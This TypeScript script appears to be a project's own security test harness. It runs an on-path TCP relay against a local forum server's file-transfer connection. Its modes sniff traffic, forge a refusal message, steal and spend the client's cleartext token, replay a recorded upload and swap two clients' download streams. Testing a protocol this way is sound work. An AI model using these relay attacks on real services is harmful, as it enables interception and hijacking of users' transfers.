/**
 * Attack round 11, (C) an attacker on the path of the TCP transfer connection, between
 * forum-client's own transfer code (packages/client/src/transfer.ts, as the binary runs it) and
 * the real forum-server. The rudp session is a raw one (forum-raw.ts): the relay sits on the
 * TCP side only, where the attacker sees the token line in clear.
 *
 *   npx tsx attack/onpath-transfer.ts read          # what the relay sees of a 1 MB upload and its download
 *   npx tsx attack/onpath-transfer.ts forge-refusal # relays an upload whole, drops the server's sealed OK and answers a clear `ERR Thread t does not exist`
 *   npx tsx attack/onpath-transfer.ts steal-token   # spends the client's token on its own connection first
 *   npx tsx attack/onpath-transfer.ts replay        # replays a recorded upload's bytes to the server afterwards
 *   npx tsx attack/onpath-transfer.ts swap          # two downloads at once, each client handed the other's server stream
 */
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deriveTransferKeys, sessionExporter } from '../packages/forum-protocol/dist/index.js';
import { downloadFile, uploadFile } from '../packages/client/src/transfer.js';
import { transferFailureLine, uploadUnknownLine } from '../packages/client/src/transfer-refusal.js';
import { session, startServer } from './forum-raw.js';

const mode = process.argv[2] ?? 'read';
const noProgress = () => ({ add: () => undefined, stop: () => undefined });
const dir = await mkdtemp(join(tmpdir(), 'a11-onpath-'));
const cwd = await mkdtemp(join(tmpdir(), 'a11-onpath-cwd-'));
const udpPort = 20_000 + (process.pid % 20_000);
const server = await startServer(dir, udpPort, udpPort + 1);
const ac = new AbortController();
const s = await session(udpPort, 'yoda', ac.signal);
await s.request('CRT', ['t']);
const secret = randomBytes(1_000_000);
await writeFile(join(cwd, 'f.bin'), secret);

/** A relay to the server's transfer port; `shape` decides what each direction passes. */
const relay = async (shape: (client: net.Socket, upstream: net.Socket, seen: Buffer[]) => void): Promise<{ port: number; seen: Buffer[]; close(): void }> => {
  const seen: Buffer[] = [];
  const sockets: net.Socket[] = [];
  const srv = net.createServer({ allowHalfOpen: true }, (client) => {
    const upstream = net.connect({ port: udpPort + 1, host: '127.0.0.1', allowHalfOpen: true });
    sockets.push(client, upstream);
    client.on('error', () => undefined);
    upstream.on('error', () => undefined);
    shape(client, upstream, seen);
  });
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
  return { port: (srv.address() as net.AddressInfo).port, seen, close: () => (sockets.forEach((x) => x.destroy()), srv.close()) };
};
const pipe = (from: net.Socket, to: net.Socket, seen: Buffer[]): void => {
  from.on('data', (d: Buffer) => (seen.push(Buffer.from(d)), to.write(d)));
  from.on('end', () => to.end());
};
const grant = async (cmd: 'UPD' | 'DWN', name: string) => {
  const r = await s.request(cmd, ['t', name]);
  if (r.data.kind !== 'transfer') throw new Error(r.lines.join('|'));
  return { token: r.data.token, keys: deriveTransferKeys(sessionExporter(s.conn), r.data.token) };
};
const uploads = async (): Promise<string> => (await s.request('RDT', ['t'])).lines.filter((l) => l.includes('uploaded')).join(', ') || '(none)';

if (mode === 'read') {
  const r = await relay((c, u, seen) => (pipe(c, u, seen), pipe(u, c, seen)));
  const up = await grant('UPD', 'f.bin');
  const upResult = await uploadFile('127.0.0.1', r.port, up.token, up.keys, join(cwd, 'f.bin'), secret.length, noProgress());
  const down = await grant('DWN', 'f.bin');
  const downResult = await downloadFile('127.0.0.1', r.port, down.token, down.keys, cwd, 'copy.bin', noProgress);
  const all = Buffer.concat(r.seen);
  // Any 16-byte run of the file in what the relay saw would be plaintext.
  let found = 0;
  for (let at = 0; at + 16 <= secret.length; at += 4096) if (all.includes(secret.subarray(at, at + 16))) found++;
  console.log(`[read] upload ${JSON.stringify(upResult)}, download ${JSON.stringify(downResult)}, copy equal: ${(await readFile(join(cwd, 'copy.bin'))).equals(secret)}`);
  console.log(`[read] the relay saw ${all.length} bytes; 16-byte samples of the file found in them: ${found} of ${Math.floor(secret.length / 4096)}`);
  r.close();
} else if (mode === 'forge-refusal') {
  const r = await relay((c, u, seen) => {
    pipe(c, u, seen);
    // The server's sealed answer is dropped; a clear refusal (which needs no key) is answered instead.
    u.on('data', () => undefined);
    u.on('end', () => c.end('ERR Thread t does not exist\n'));
  });
  const up = await grant('UPD', 'f.bin');
  const result = await uploadFile('127.0.0.1', r.port, up.token, up.keys, join(cwd, 'f.bin'), secret.length, noProgress());
  const line = result.ok ? 'ok' : result.cancelled ? 'cancelled' : result.maybeStored === true ? uploadUnknownLine('f.bin', 't', result.reason) : transferFailureLine('upload', 'f.bin', 't', result.reason);
  console.log(`[forge-refusal] forum-client would print: ${JSON.stringify(line)}`);
  console.log(`[forge-refusal] the thread's uploads on the server: ${await uploads()}`);
  r.close();
} else if (mode === 'steal-token') {
  const r = await relay((c, u, seen) => {
    let head = '';
    c.on('data', function first(d: Buffer) {
      head += d.toString('latin1');
      if (!head.includes('\n')) return;
      c.off('data', first);
      // Spent on the attacker's own connection first; the client's follows 100 ms later.
      const thief = net.connect({ port: udpPort + 1, host: '127.0.0.1' });
      thief.on('error', () => undefined);
      thief.on('data', (x: Buffer) => seen.push(Buffer.from(x)));
      thief.write(head.slice(0, head.indexOf('\n') + 1));
      setTimeout(() => {
        u.write(d);
        pipe(c, u, []);
        pipe(u, c, []);
      }, 100);
    });
  });
  const up = await grant('UPD', 'f.bin');
  await uploadFile('127.0.0.1', udpPort + 1, up.token, up.keys, join(cwd, 'f.bin'), secret.length, noProgress());
  const down = await grant('DWN', 'f.bin');
  const result = await downloadFile('127.0.0.1', r.port, down.token, down.keys, cwd, 'stolen.bin', noProgress);
  await new Promise((res) => setTimeout(res, 300));
  const got = Buffer.concat(r.seen);
  console.log(`[steal-token] the client: ${JSON.stringify(result)}; the thief got ${got.length} bytes, the file's first 16 among them: ${got.includes(secret.subarray(0, 16))}`);
  r.close();
} else if (mode === 'replay') {
  const recorded: Buffer[] = [];
  const r = await relay((c, u) => (pipe(c, u, recorded), pipe(u, c, [])));
  const up = await grant('UPD', 'g.bin');
  await writeFile(join(cwd, 'g.bin'), secret.subarray(0, 1000));
  const first = await uploadFile('127.0.0.1', r.port, up.token, up.keys, join(cwd, 'g.bin'), 1000, noProgress());
  await s.request('RMV', ['t']);
  await s.request('CRT', ['t']);
  const answer = await new Promise<string>((res) => {
    const x = net.connect({ port: udpPort + 1, host: '127.0.0.1' });
    let got = '';
    x.on('data', (d: Buffer) => (got += d.toString('latin1')));
    x.on('close', () => res(got));
    x.on('error', () => undefined);
    x.end(Buffer.concat(recorded));
  });
  console.log(`[replay] the upload: ${JSON.stringify(first)}; replayed after RMV and CRT, the server answered ${JSON.stringify(answer)}; uploads now: ${await uploads()}`);
  r.close();
} else if (mode === 'swap') {
  // Each client's connection is joined to the server connection the other client opened.
  const waiting: net.Socket[] = [];
  const r = await relay((c, u) => {
    waiting.push(c, u);
    if (waiting.length < 4) return;
    const [c1, u1, c2, u2] = waiting as [net.Socket, net.Socket, net.Socket, net.Socket];
    const line = (sock: net.Socket): Promise<Buffer> => new Promise((res) => sock.once('data', (d: Buffer) => res(d)));
    void Promise.all([line(c1), line(c2)]).then(([h1, h2]) => {
      u1.write(h1);
      u2.write(h2);
      pipe(c1, u1, []);
      pipe(c2, u2, []);
      pipe(u1, c2, []);
      pipe(u2, c1, []);
    });
  });
  await writeFile(join(cwd, 'h.bin'), secret.subarray(0, 5000));
  const upH = await grant('UPD', 'h.bin');
  await uploadFile('127.0.0.1', udpPort + 1, upH.token, upH.keys, join(cwd, 'h.bin'), 5000, noProgress());
  const up = await grant('UPD', 'f2.bin');
  await uploadFile('127.0.0.1', udpPort + 1, up.token, up.keys, join(cwd, 'f.bin'), secret.length, noProgress());
  const a = await grant('DWN', 'h.bin');
  const b = await grant('DWN', 'f2.bin');
  const [ra, rb] = await Promise.all([
    downloadFile('127.0.0.1', r.port, a.token, a.keys, cwd, 'a.out', noProgress),
    downloadFile('127.0.0.1', r.port, b.token, b.keys, cwd, 'b.out', noProgress),
  ]);
  console.log(`[swap] download 1: ${JSON.stringify(ra)}; download 2: ${JSON.stringify(rb)}`);
  r.close();
}
ac.abort();
server.child.kill('SIGTERM');
await server.exited;
process.exit(0);
